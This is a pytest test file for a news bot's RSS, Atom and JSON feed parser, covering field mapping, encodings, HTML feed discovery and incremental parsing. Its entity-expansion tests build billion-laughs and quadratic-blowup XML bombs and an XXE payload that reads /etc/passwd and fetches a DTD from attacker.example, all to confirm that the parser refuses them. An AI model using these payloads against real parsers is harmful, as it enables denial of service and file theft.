from __future__ import annotations

import datetime
import json
import random
import re
import tracemalloc
from pathlib import Path
from urllib.parse import urljoin

import feedparser
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.domain import ParsedFeed
from bot.sources.autodiscovery import discover_feed_links
from bot.sources.feed_entries import MAX_ENTRIES, valid_date
from bot.sources.normalize import clean_title
from bot.sources.parse import (
    ENTITIES_REFUSED,
    MAX_FEED_BYTES,
    _parse,
    _prepare,
    _run_feedparser,
    parse_feed,
)

FIXTURES = Path(__file__).parent / "fixtures" / "feeds"
FEED_URL = "https://news.example.com/rss/world.xml"


XML_DECL = '<?xml version="1.0" encoding="utf-8"?>'


def rss(items: str, *, head: str = "", channel: str = "") -> bytes:
    return (
        f"{XML_DECL}\n{head}"
        '<rss version="2.0" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">'
        f"<channel><title>World news</title><link>https://news.example.com/</link>{channel}"
        f"{items}</channel></rss>"
    ).encode()


def item(
    title: str = "Modi meets Putin in Moscow", link: str = "/world/modi-putin-1", extra: str = ""
) -> str:
    return f"<item><title>{title}</title><link>{link}</link>{extra}</item>"


# --- mapping -----------------------------------------------------------------------------------


def test_maps_entry_fields() -> None:
    body = rss(
        item(
            extra=(
                "<guid isPermaLink='false'>story-1</guid>"
                "<pubDate>Tue, 09 Jul 2024 14:30:00 +0530</pubDate>"
                "<description>&lt;p&gt;Short&lt;/p&gt;</description>"
                "<content:encoded xmlns:content='http://purl.org/rss/1.0/modules/content/'>"
                "<![CDATA[<p>The long <b>body</b> of the story.</p>]]></content:encoded>"
                "<author>desk@example.com (World desk)</author>"
            )
        ),
        channel="<language>en-IN</language><ttl>30</ttl>",
    )
    parsed = parse_feed(body, url=FEED_URL, content_type="application/rss+xml")
    assert parsed.is_feed and parsed.error is None
    assert parsed.title == "World news"
    assert parsed.link == "https://news.example.com/"
    assert parsed.language == "en"
    assert parsed.ttl_seconds == 1800
    [entry] = parsed.entries
    assert entry.title == "Modi meets Putin in Moscow"
    assert entry.link == "https://news.example.com/world/modi-putin-1"
    assert entry.guid and entry.guid.endswith("story-1")
    assert entry.published == datetime.datetime(2024, 7, 9, 9, 0, tzinfo=datetime.UTC)
    assert entry.content_html == "<p>The long <b>body</b> of the story.</p>"
    assert entry.author and "World desk" in entry.author
    assert entry.language == "en"


def test_atom_entry_and_updated_date() -> None:
    body = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="ru">
  <title>Lenta</title><id>urn:x</id><updated>2024-07-09T10:00:00Z</updated>
  <entry><title type="html">Putin &amp;amp; Modi</title><id>urn:1</id>
    <link rel="alternate" href="https://lenta.example/news/2024/07/09/putin-modi/"/>
    <updated>2024-07-09T10:00:00+03:00</updated>
    <summary>Short</summary><content type="html">&lt;p&gt;Much longer text&lt;/p&gt;</content>
  </entry>
</feed>"""
    parsed = parse_feed(body, url="https://lenta.example/atom")
    [entry] = parsed.entries
    assert entry.link == "https://lenta.example/news/2024/07/09/putin-modi/"
    assert entry.guid == "urn:1"
    assert entry.published == datetime.datetime(2024, 7, 9, 7, 0, tzinfo=datetime.UTC)
    assert entry.content_html == "<p>Much longer text</p>"
    assert entry.language == "ru"


def test_ttl_from_syndication_module() -> None:
    body = rss(
        item(),
        channel="<sy:updatePeriod>hourly</sy:updatePeriod><sy:updateFrequency>4</sy:updateFrequency>",
    )
    assert parse_feed(body, url=FEED_URL).ttl_seconds == 900
    assert parse_feed(rss(item()), url=FEED_URL).ttl_seconds is None


def test_absurd_dates_are_dropped() -> None:
    old = rss(item(extra="<pubDate>Thu, 01 Jan 1970 00:00:00 GMT</pubDate>"))
    future = rss(item(extra="<pubDate>Fri, 01 Jan 2100 00:00:00 GMT</pubDate>"))
    assert parse_feed(old, url=FEED_URL).entries[0].published is None
    assert parse_feed(future, url=FEED_URL).entries[0].published is None
    now = datetime.datetime(2024, 7, 9, tzinfo=datetime.UTC)
    assert valid_date(now + datetime.timedelta(days=1), now) is not None
    assert valid_date(now + datetime.timedelta(days=3), now) is None
    naive = datetime.datetime(2024, 7, 8, 12, 0)
    assert valid_date(naive, now) == naive.replace(tzinfo=datetime.UTC)


def test_links_are_trimmed_and_only_http() -> None:
    body = rss(
        item(link="\n      https://timesofindia.example/india/modi-russia/articleshow/1.cms\n   ")
        + item(title="Bad", link="javascript:alert(1)")
    )
    first, second = parse_feed(body, url=FEED_URL).entries
    assert first.link == "https://timesofindia.example/india/modi-russia/articleshow/1.cms"
    assert second.link == ""


def test_entries_are_capped() -> None:
    body = rss(
        "".join(item(title=f"Story number {i}", link=f"/s/{i}") for i in range(MAX_ENTRIES + 20))
    )
    assert len(parse_feed(body, url=FEED_URL).entries) == MAX_ENTRIES


def test_json_feed() -> None:
    body = json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "JSON news",
            "home_page_url": "https://json.example/",
            "language": "hi-IN",
            "items": [
                {
                    "id": "1",
                    "url": "/2024/07/09/modi-moscow",
                    "title": "मोदी मॉस्को पहुंचे",
                    "content_text": "Plain <text> & more",
                    "date_published": "2024-07-09T10:00:00+05:30",
                    "authors": [{"name": "Desk"}],
                }
            ],
        }
    ).encode()
    parsed = parse_feed(body, url="https://json.example/feed.json")
    assert parsed.title == "JSON news" and parsed.language == "hi"
    [entry] = parsed.entries
    assert entry.link == "https://json.example/2024/07/09/modi-moscow"
    assert entry.content_html == "<p>Plain &lt;text> &amp; more</p>"
    assert entry.published == datetime.datetime(2024, 7, 9, 4, 30, tzinfo=datetime.UTC)
    assert entry.author == "Desk" and entry.guid == "1"


# --- encodings -----------------------------------------------------------------------------------


def _assert_cyrillic(parsed: ParsedFeed) -> None:
    assert parsed.error is None and parsed.entries
    text = (parsed.title or "") + " ".join(e.title for e in parsed.entries)
    assert "а" in text
    assert "Ð" not in text and "Ã" not in text


def _aif_text() -> str:
    return (FIXTURES / "aif_ru.xml").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("codec", "declared", "content_type"),
    [
        ("cp1251", "windows-1251", ""),
        ("cp1251", "windows-1251", "text/xml"),
        ("cp1251", "UTF-8", "text/xml; charset=windows-1251"),
        ("cp1251", None, "application/rss+xml; charset=windows-1251"),
        ("cp1251", None, ""),
        ("koi8-r", "koi8-r", ""),
        ("koi8-r", None, "text/xml; charset=KOI8-R"),
        ("koi8-r", None, ""),
    ],
)
def test_russian_single_byte_encodings(codec: str, declared: str | None, content_type: str) -> None:
    text = _aif_text()
    decl = '<?xml version="1.0" encoding="UTF-8"?>'
    text = text.replace(
        decl,
        f'<?xml version="1.0" encoding="{declared}"?>' if declared else '<?xml version="1.0"?>',
    )
    parsed = parse_feed(
        text.encode(codec, errors="replace"),
        url="https://aif.ru/rss/all.php",
        content_type=content_type,
    )
    _assert_cyrillic(parsed)
    assert parsed.title == "Аргументы и Факты"


def test_aif_utf8() -> None:
    parsed = parse_feed((FIXTURES / "aif_ru.xml").read_bytes(), url="https://aif.ru/rss/all.php")
    _assert_cyrillic(parsed)


def test_yandex_double_encoded_is_repaired() -> None:
    parsed = parse_feed(
        (FIXTURES / "yandex_moscow_double_encoded.xml").read_bytes(),
        url="https://news.yandex.ru/Moscow/index.rss",
    )
    _assert_cyrillic(parsed)
    assert parsed.title == "Яндекс.Новости: Москва"
    assert len(parsed.entries) == 15


def test_yandex_windows_1251_served_with_charset() -> None:
    raw = (FIXTURES / "yandex_moscow_double_encoded.xml").read_bytes()
    text = raw.decode("utf-8").encode("cp1252", errors="ignore").decode("utf-8", errors="ignore")
    text = text.replace('encoding="utf-8"', 'encoding="windows-1251"')
    parsed = parse_feed(
        text.encode("cp1251", errors="replace"),
        url="https://news.yandex.ru/Moscow/index.rss",
        content_type="text/xml; charset=windows-1251",
    )
    _assert_cyrillic(parsed)


def test_hindi_feed() -> None:
    parsed = parse_feed(
        (FIXTURES / "news18_hindi.xml").read_bytes(),
        url="https://hindi.news18.com/rss/khabar/world/china.xml",
    )
    assert parsed.language == "hi"
    assert parsed.title and "हिंदी" in parsed.title
    assert parsed.entries and parsed.entries[0].link.startswith("https://")


def test_utf16_feed() -> None:
    body = rss(item(title="Путин и Моди")).decode().replace('encoding="utf-8"', 'encoding="utf-16"')
    parsed = parse_feed(body.encode("utf-16"), url=FEED_URL)
    assert parsed.entries[0].title == "Путин и Моди"


def test_invalid_utf8_still_parses() -> None:
    body = rss(item(title="Modi \xff\xfe meets Putin".encode("latin-1").decode("latin-1")))
    body = body.replace("ÿþ".encode(), b"\xff\xfe")
    parsed = parse_feed(body, url=FEED_URL)
    assert parsed.entries and "Modi" in parsed.entries[0].title


# --- entity expansion ---------------------------------------------------------------------------


def billion_laughs() -> bytes:
    decls = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return rss(item(title="&lol9;"), head="<!DOCTYPE rss [\n" + "\n".join(decls) + "\n]>\n")


def quadratic_blowup(size: int = 50_000, refs: int = 20_000) -> bytes:
    head = f'<!DOCTYPE rss [\n<!ENTITY a "{"A" * size}">\n]>\n'
    return rss(item(extra=f"<description>{'&a;' * refs}</description>"), head=head)


def _peak_mb(body: bytes) -> tuple[ParsedFeed, float]:
    tracemalloc.start()
    try:
        parsed = parse_feed(body, url=FEED_URL)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return parsed, peak / 1e6


def test_billion_laughs_is_parsed_without_expansion() -> None:
    parsed, peak = _peak_mb(billion_laughs())
    assert peak < 50
    assert parsed.error == ENTITIES_REFUSED or all(len(e.title) < 100 for e in parsed.entries)


def test_quadratic_blowup_is_refused() -> None:
    body = quadratic_blowup()
    assert len(body) < 200_000  # expands to 1 GB in feedparser's loose parser
    parsed, peak = _peak_mb(body)
    assert peak < 50
    assert parsed.error == ENTITIES_REFUSED and not parsed.entries


def test_quadratic_blowup_hidden_in_utf16_is_refused() -> None:
    body = (
        quadratic_blowup()
        .decode()
        .replace('encoding="utf-8"', 'encoding="utf-16"')
        .encode("utf-16")
    )
    parsed, peak = _peak_mb(body)
    assert peak < 50
    assert parsed.error == ENTITIES_REFUSED


def test_many_small_entities_are_refused() -> None:
    body = quadratic_blowup(size=100, refs=30_000)
    parsed, peak = _peak_mb(body)
    assert peak < 50 and parsed.error == ENTITIES_REFUSED


def test_stray_entity_declaration_is_refused() -> None:
    body = rss(item(), head='<!ENTITY a "x">\n')
    assert parse_feed(body, url=FEED_URL).error == ENTITIES_REFUSED


def test_external_entities_are_not_resolved() -> None:
    head = '<!DOCTYPE rss [\n<!ENTITY ext SYSTEM "file:///etc/passwd">\n<!ENTITY % p SYSTEM "https://attacker.example/x.dtd">\n%p;\n]>\n'
    parsed = parse_feed(rss(item(title="Leak &ext; here"), head=head), url=FEED_URL)
    assert parsed.entries
    assert "root:" not in parsed.entries[0].title


def test_harmless_entity_declarations_still_work() -> None:
    head = '<!DOCTYPE rss [\n  <!ENTITY id "tag:example.com,">\n  <!ENTITY nbsp "&#160;">\n]>\n'
    body = rss(
        item(title="A&nbsp;title", extra="<guid isPermaLink='false'>&id;2006:/blog/</guid>"),
        head=head,
    )
    parsed = parse_feed(body, url=FEED_URL)
    assert parsed.error is None
    assert parsed.entries[0].guid == "tag:example.com,2006:/blog/"
    assert parsed.entries[0].title == "A\xa0title"


def test_external_dtd_without_subset_and_html_entities() -> None:
    parsed = parse_feed(
        (FIXTURES / "rss091_netscape_doctype.xml").read_bytes(), url="http://www.scripting.com/"
    )
    assert parsed.error is None and parsed.entries and parsed.title == "Scripting News"
    body = rss(
        item(title="Modi&nbsp;&ndash; Putin &copy; summit"),
        head='<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n',
    )
    assert parse_feed(body, url=FEED_URL).entries[0].title == "Modi\xa0– Putin © summit"


# --- HTML and garbage ---------------------------------------------------------------------------


HTML_WITH_FEEDS = b"""<!DOCTYPE html><html><head><title>News</title>
<link rel="alternate" type="application/rss+xml" title="RSS" href="/rss/world.xml">
<link rel="Alternate" type="application/atom+xml" href="https://cdn.example.net/atom.xml">
<link rel="alternate" type="application/feed+json" href="feed.json">
<link rel="alternate" hreflang="hi" href="/hi/">
<link rel="stylesheet" type="text/css" href="/s.css">
<link rel="alternate" type="application/rss+xml" href="/rss/world.xml">
</head><body><p>Hello</p></body></html>"""


def test_html_with_feed_links() -> None:
    parsed = parse_feed(
        HTML_WITH_FEEDS, url="https://news.example.com/world/", content_type="text/html"
    )
    assert not parsed.is_feed and not parsed.entries
    assert parsed.error == "Not a feed (HTML page)"
    assert parsed.feed_links == [
        "https://news.example.com/rss/world.xml",
        "https://cdn.example.net/atom.xml",
        "https://news.example.com/world/feed.json",
    ]


def test_html_without_feed_links() -> None:
    body = (
        b"<html><head><base href='https://other.example/'></head>"
        b"<body><a href='/rss'>RSS</a></body></html>"
    )
    parsed = parse_feed(body, url="https://news.example.com/")
    assert parsed == ParsedFeed(
        title=None,
        link=None,
        entries=[],
        is_feed=False,
        feed_links=[],
        error="Not a feed (HTML page)",
    )


def test_xhtml_page_and_base_href() -> None:
    body = (
        b'<?xml version="1.0" encoding="utf-8"?>\n'
        b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
        b'<html xmlns="http://www.w3.org/1999/xhtml"><head>'
        b'<base href="https://base.example/sub/"/>'
        b'<link rel="alternate" type="application/atom+xml" href="atom"/>'
        b"</head><body/></html>"
    )
    parsed = parse_feed(body, url="https://news.example.com/")
    assert not parsed.is_feed and parsed.feed_links == ["https://base.example/sub/atom"]


def test_discover_feed_links_never_raises() -> None:
    assert discover_feed_links(b"", base_url="https://x.example/") == []
    assert discover_feed_links("\x00\x01", base_url="https://x.example/") == []


@pytest.mark.parametrize(
    ("body", "error"),
    [
        (b"", "Empty response"),
        (b"  \r\n\t ", "Empty response"),
        (b"just some text, not markup", "Not a feed"),
        (b'{"status": "ok", "items": 3}', "Not a feed"),
        (b"[1, 2, 3]", "Not a feed"),
        (b"<note><to>Tove</to></note>", "Not a feed"),
    ],
)
def test_not_a_feed(body: bytes, error: str) -> None:
    parsed = parse_feed(body, url=FEED_URL)
    assert parsed.error == error and not parsed.is_feed and not parsed.entries


def test_binary_garbage() -> None:
    rng = random.Random(1234)
    for _ in range(20):
        parsed = parse_feed(rng.randbytes(rng.randint(1, 5000)), url=FEED_URL)
        assert isinstance(parsed, ParsedFeed)
        assert parsed.error is not None and not parsed.entries


def test_too_large() -> None:
    parsed = parse_feed(b" " * (MAX_FEED_BYTES + 1) + b"<rss/>", url=FEED_URL)
    assert parsed.error == "Feed too large" and not parsed.entries


def test_truncated_feed_keeps_complete_items() -> None:
    body = rss(item() + item(title="Second story here", link="/s/2"))
    parsed = parse_feed(body[: body.index(b"Second") + 10], url=FEED_URL)
    assert parsed.entries and parsed.entries[0].title == "Modi meets Putin in Moscow"


def test_empty_but_valid_feed_is_not_an_error() -> None:
    parsed = parse_feed(rss(""), url=FEED_URL)
    assert parsed.is_feed and parsed.error is None and parsed.entries == []


def test_bogus_encoding_name_in_declaration() -> None:
    body = rss(item()).replace(b'encoding="utf-8"', b'encoding="UT\xbcF-8"')
    parsed = _parse(body, url=FEED_URL, content_type="")
    assert parsed.entries and parsed.entries[0].title == "Modi meets Putin in Moscow"


# _parse is parse_feed without its last-resort except: these must not raise at all.
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=3000), st.sampled_from(["", "text/xml", "text/html"]))
def test_never_raises_on_bytes(body: bytes, content_type: str) -> None:
    assert isinstance(_parse(body, url=FEED_URL, content_type=content_type), ParsedFeed)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.tuples(st.integers(0, 600), st.integers(0, 6), st.binary(max_size=6)), max_size=8),
    st.sampled_from(["", "text/xml", "application/rss+xml; charset=koi8-r"]),
)
def test_never_raises_on_damaged_feeds(
    edits: list[tuple[int, int, bytes]], content_type: str
) -> None:
    body = bytearray(rss(item() + item(title="Второй &amp; <b>x</b>", link="https://a.example/2")))
    for position, length, junk in edits:
        body[position : position + length] = junk
    assert isinstance(_parse(bytes(body), url=FEED_URL, content_type=content_type), ParsedFeed)


# --- shared evaluation data ----------------------------------------------------------------------

# Expect expressions that cannot hold here, by reason.
KNOWN_EXPECT_FAILURES = {
    # Need a real HTTP exchange (ETag, Last-Modified, a relative Content-Location).
    "wellformed/http/headers_content_location-relative.xml",
    "wellformed/http/headers_etag.xml",
    "wellformed/http/headers_last_modified-modified.xml",
    "wellformed/http/headers_last_modified-modified_parsed.xml",
    # The suite is newer than the pinned feedparser 6.0.x.
    "wellformed/atom/entry_link_no_href_link_priority.xml",
    "wellformed/atom/entry_link_rel_enclosure_no_href.xml",
    "wellformed/atom10/entry_link_no_href_link_priority.xml",
    "wellformed/atom10/entry_link_rel_enclosure_no_href.xml",
    "wellformed/itunes/itunes_channel_explicit_false.xml",
    "wellformed/itunes/itunes_channel_explicit_no.xml",
    "wellformed/itunes/itunes_channel_explicit_true.xml",
    "wellformed/itunes/itunes_item_explicit_false.xml",
    "wellformed/itunes/itunes_item_explicit_no.xml",
    "wellformed/itunes/itunes_item_explicit_true.xml",
}
_DESC = re.compile(r"Description:\s*(.*?)\s*Expect:\s*(.*)\s*-->")
_SKIP = re.compile(r"SkipUnless:\s*(.*?)\n")
_HEADER = re.compile(r"^Header:\s+([^:]+):(.*)$", re.MULTILINE)


def _suite_files(shared_eval: Path) -> list[Path]:
    root = shared_eval / "feedparser-tests" / "tests"
    files = sorted(p for p in root.rglob("*") if p.is_file())
    assert len(files) > 2000
    return files


def test_feedparser_suite_never_raises(shared_eval: Path) -> None:
    failures = []
    for path in _suite_files(shared_eval):
        try:
            parsed = parse_feed(path.read_bytes(), url="http://127.0.0.1:8097/" + path.name)
            assert isinstance(parsed, ParsedFeed)
        except Exception as exc:
            failures.append(f"{path}: {exc!r}")
    assert not failures, "\n".join(failures)


def _suite_text(data: bytes) -> str:
    for codec in ("utf-32", "utf-16") if b"\x00" in data[:4] else ():
        try:
            return data.decode(codec)
        except UnicodeDecodeError:
            continue
    return data.decode("utf-8", errors="ignore")


def test_feedparser_suite_expectations(shared_eval: Path) -> None:
    """The guard in front of feedparser must not change what feedparser makes of a feed."""
    root = shared_eval / "feedparser-tests" / "tests"
    failures, checked = [], 0
    for path in _suite_files(shared_eval):
        if path.suffix != ".xml":
            continue
        data = path.read_bytes()
        text = _suite_text(data)
        found = _DESC.search(text)
        if not found:
            continue
        skip = _SKIP.search(text)
        if skip:
            try:
                eval(skip.group(1), {"feedparser": feedparser})
            except Exception:
                continue
        name = path.relative_to(root).as_posix()
        headers = {k.strip().lower(): v.strip() for k, v in _HEADER.findall(text)}
        is_http = "http" in name
        content_type = headers.pop("content-type", "text/xml" if is_http else "")
        # Upstream parses non-HTTP cases without a base URL; relative URIs must stay relative.
        url = "http://127.0.0.1:8097/tests/" + name if is_http else ""
        body, parser_headers, _, _ = _prepare(data, url=url, content_type=content_type)
        parser_headers.update(headers)
        result = _run_feedparser(body, parser_headers)
        checked += 1
        try:
            ok = eval(found.group(2), {"datetime": datetime, "feedparser": feedparser}, result)
        except Exception:
            ok = False
        if not ok and name not in KNOWN_EXPECT_FAILURES:
            failures.append(name)
    assert checked > 2000
    assert not failures, "\n".join(failures)


def _real_feed_inputs(shared_eval: Path) -> list[Path]:
    root = shared_eval / "real-feeds"
    out = []
    for path in sorted(root.rglob("*")):
        if not path.is_file() or path.suffix in (".md", ".txt") or path.name == "LICENSE":
            continue
        if "output" in path.parts or path.name.endswith((".serde.json", ".expected.json")):
            continue  # ground truth, not input
        fast = path.parent.name == "kagisearch-fastfeedparser"
        if fast and path.suffix == ".json" and path.name != "json_feed_sample.json":
            continue
        out.append(path)
    return out


# Inputs without a single entry that has both a title and a link, and why.
NO_LINKED_ENTRY = {
    "arminreiter-FeedReader/Rss092FullSample.xml": "RSS 0.92 spec sample: items without titles",
    "arminreiter-FeedReader/Rss20DailyMail.xml": "snapshot has a channel but no items",
    "feed-rs/atom/atom_entry_1.xml": "a bare Atom entry document, no link",
    "feed-rs/atom/atom_example_7.xml": "Planet GNOME entries without alternate links",
    "feed-rs/atom/atom_pub_spec_1.xml": "AtomPub spec sample, no links",
    "feed-rs/rss0/rss_0.91_missing_id.xml": "item without link",
    "feed-rs/rss0/rss_0.92_spec_1.xml": "items without titles",
    "feed-rs/rss2/rss_2.0_ghost_1.xml": "item without title",
    "feed-rs/rss2/rss_2.0_invalid_1.xml": "deliberately truncated before the first item",
    "feed-rs/rss2/rss_2.0_spec_1.xml": "items without titles",
    "feed-rs/xml/xml_iso8859.xml": "not RSS: a bare <rdf> list without links",
    "feed-rs/xml/xml_sample_1.xml": "not a feed (generic XML)",
    "feed-rs/xml/xml_sample_2.xml": "not a feed (generic XML)",
    "kagisearch-fastfeedparser/malformed_rss_namespaced.xml": "undeclared rss: prefix, no items",
    "prof18-RSS-Parser/feed-test-charset.xml": "podcast items without links",
    "rbren-rss-parser/input/incomplete-fields.atom": "entry without title or link",
    "rbren-rss-parser/input/missing-fields.atom": "entry without title",
    "rbren-rss-parser/input/unrecognized.rss": "an HTML 'Document Moved' page",
}


def test_real_feeds_yield_linked_entries(shared_eval: Path) -> None:
    root = shared_eval / "real-feeds"
    inputs = _real_feed_inputs(shared_eval)
    assert len(inputs) > 200
    missing = []
    for path in inputs:
        parsed = parse_feed(path.read_bytes(), url="https://feeds.example.org/feed.xml")
        good = [e for e in parsed.entries if e.title and e.link]
        name = path.relative_to(root).as_posix()
        if not good and name not in NO_LINKED_ENTRY:
            missing.append(f"{name}: {len(parsed.entries)} entries, error={parsed.error}")
    assert not missing, "\n".join(missing)


def test_rss_parser_ground_truth(shared_eval: Path) -> None:
    root = shared_eval / "real-feeds" / "rbren-rss-parser"
    compared = matched = 0
    for expected_file in sorted((root / "output").glob("*.json")):
        encoding = "latin-1" if expected_file.name == "encoding.json" else "utf-8"
        expected = json.loads(expected_file.read_text(encoding=encoding))["feed"].get("items", [])
        [source] = [p for p in (root / "input").iterdir() if p.stem == expected_file.stem]
        parsed = parse_feed(source.read_bytes(), url="https://feeds.example.org/feed.xml")
        assert len(parsed.entries) == len(expected), source.name
        for want, got in zip(expected, parsed.entries, strict=True):
            title = want.get("title") or ""
            if "\ufffd" in title:
                continue  # the reference parser lost the encoding; we decode it
            compared += 2
            matched += clean_title(title) == clean_title(got.title)
            link = (want.get("link") or "").strip()
            matched += (
                urljoin("https://feeds.example.org/feed.xml", link) if link else ""
            ) == got.link
    assert compared > 900
    assert matched / compared > 0.99


def test_fastfeedparser_ground_truth(shared_eval: Path) -> None:
    root = shared_eval / "real-feeds" / "kagisearch-fastfeedparser"
    for source in sorted(root.glob("*.xml")):
        if source.stem == "malformed_rss_namespaced":
            continue
        expected = json.loads(source.with_suffix(".json").read_text(encoding="utf-8"))["entries"]
        parsed = parse_feed(source.read_bytes(), url="https://feeds.example.org/feed.xml")
        assert [clean_title(e.get("title", "")) for e in expected] == [
            clean_title(e.title) for e in parsed.entries
        ]
        assert [e.get("link", "") for e in expected] == [e.link for e in parsed.entries]


# --- entries listed unchanged since the last read ----------------------------------------------


def dated_item(n: int, text: str = "") -> str:
    day = 10 + n % 15
    return item(
        f"Story number {n} about the summit",
        f"/world/story-{n}",
        f"<guid>story-{n}</guid><pubDate>Tue, {day:02d} Sep 2024 10:00:00 GMT</pubDate>"
        f"<description><![CDATA[<p>Body of story {n}. {text}</p>]]></description>",
    )


def test_entries_listed_last_time_are_left_out_and_the_rest_parse_as_before() -> None:
    first = parse_feed(rss("".join(dated_item(n) for n in range(30))), url=FEED_URL)
    assert len(first.entries) == 30 and first.unchanged == 0
    assert first.listing is not None

    # The same document again: nothing comes back, but the feed and its rhythm are still read.
    same = parse_feed(rss("".join(dated_item(n) for n in range(30))), url=FEED_URL,
                      unchanged=first.listing)  # fmt: skip
    assert same.entries == [] and same.unchanged == 30 and same.is_feed
    assert same.title == "World news" and same.listing == first.listing
    assert sorted(same.unchanged_published) == sorted(e.published for e in first.entries)

    # One new story on top and one story edited: exactly those two, as a full parse gives them.
    changed = rss(dated_item(30) + "".join(dated_item(n, "Updated." * (n == 7)) for n in range(30)))
    full = parse_feed(changed, url=FEED_URL)
    later = parse_feed(changed, url=FEED_URL, unchanged=first.listing)
    assert later.unchanged == 29
    assert later.entries == [full.entries[0], full.entries[8]]
    assert [e.title for e in later.entries] == [
        "Story number 30 about the summit",
        "Story number 7 about the summit",
    ]


@pytest.mark.parametrize(
    "encoding, content_type",
    [("windows-1251", ""), ("koi8-r", "application/rss+xml; charset=koi8-r"), ("utf-16", "")],
)
def test_feeds_in_other_encodings_are_cut_as_they_are_decoded(
    encoding: str, content_type: str
) -> None:
    def feed(*numbers: int) -> bytes:
        items = "".join(
            item(f"Путин и Моди: саммит номер {n}", f"/ru/{n}", f"<guid>ru-{n}</guid>")
            for n in numbers
        )
        return rss(items).decode().replace("utf-8", encoding).encode(encoding)

    first = parse_feed(feed(1, 2, 3), url=FEED_URL, content_type=content_type)
    assert first.listing is not None and len(first.entries) == 3
    later = feed(4, 1, 2, 3)
    whole = parse_feed(later, url=FEED_URL, content_type=content_type)
    cut = parse_feed(later, url=FEED_URL, content_type=content_type, unchanged=first.listing)
    assert cut.unchanged == 3
    assert cut.entries == whole.entries[:1]
    assert cut.entries[0].title == "Путин и Моди: саммит номер 4"


@pytest.mark.parametrize(
    "body",
    [
        rss(dated_item(1), head='<!DOCTYPE rss [<!ENTITY who "Modi">]>'),
        rss(dated_item(1)).replace(b"</channel>", b"<oops></channel>"),  # not well-formed
    ],
    ids=["doctype", "malformed"],
)
def test_documents_that_cannot_be_cut_safely_are_parsed_whole(
    body: bytes,
) -> None:
    parsed = parse_feed(body, url=FEED_URL, unchanged=b"\0" * 8)
    assert parsed.listing is None and parsed.unchanged == 0
    assert [e.title for e in parsed.entries] == ["Story number 1 about the summit"]


def test_atom_and_rdf_entries_are_listed_too() -> None:
    atom = (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>A</title>"
        + "".join(
            f"<entry><id>urn:{n}</id><title>Atom story {n} here</title>"
            f"<link href='https://a.example/{n}'/><updated>2024-09-1{n}T10:00:00Z</updated></entry>"
            for n in range(3)
        )
        + "</feed>"
    ).encode()
    rdf = (
        '<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
        ' xmlns="http://purl.org/rss/1.0/"><channel rdf:about="https://r.example/"><title>R</title>'
        "</channel>"
        + "".join(
            f'<item rdf:about="https://r.example/{n}"><title>RDF story {n} here</title>'
            f"<link>https://r.example/{n}</link></item>"
            for n in range(3)
        )
        + "</rdf:RDF>"
    ).encode()
    for body in (atom, rdf):
        first = parse_feed(body, url=FEED_URL)
        assert first.listing is not None and len(first.entries) == 3
        again = parse_feed(body, url=FEED_URL, unchanged=first.listing)
        assert again.entries == [] and again.unchanged == 3 and again.title == first.title


def test_real_feeds_cut_to_what_changed_parse_as_whole(shared_eval: Path) -> None:
    """For every real feed: cutting all entries but one gives that entry as a full parse does."""
    listed = 0
    for path in _real_feed_inputs(shared_eval):
        body = path.read_bytes()
        whole = parse_feed(body, url="https://feeds.example.org/feed.xml")
        if whole.listing is None or not whole.entries:
            continue
        listed += 1
        digests = [whole.listing[i : i + 8] for i in range(0, len(whole.listing), 8)]
        assert len(digests) == len(whole.entries), path.name
        for keep in {0, len(digests) - 1}:
            if digests.count(digests[keep]) > 1:
                continue  # the feed lists this very entry twice
            others = b"".join(d for i, d in enumerate(digests) if i != keep)
            cut = parse_feed(body, url="https://feeds.example.org/feed.xml", unchanged=others)
            assert cut.entries == [whole.entries[keep]], path.name
            assert (cut.title, cut.link, cut.ttl_seconds) == (
                whole.title, whole.link, whole.ttl_seconds
            ), path.name  # fmt: skip
    assert listed > 150


def test_blank_lines_before_the_xml_declaration_do_not_spoil_the_feed() -> None:
    body = rss("".join(dated_item(n) for n in range(3)))
    clean = parse_feed(body, url=FEED_URL)
    padded = parse_feed(b"\n\r\n  " + body, url=FEED_URL)
    assert padded.entries == clean.entries and padded.listing == clean.listing
    assert padded.listing is not None
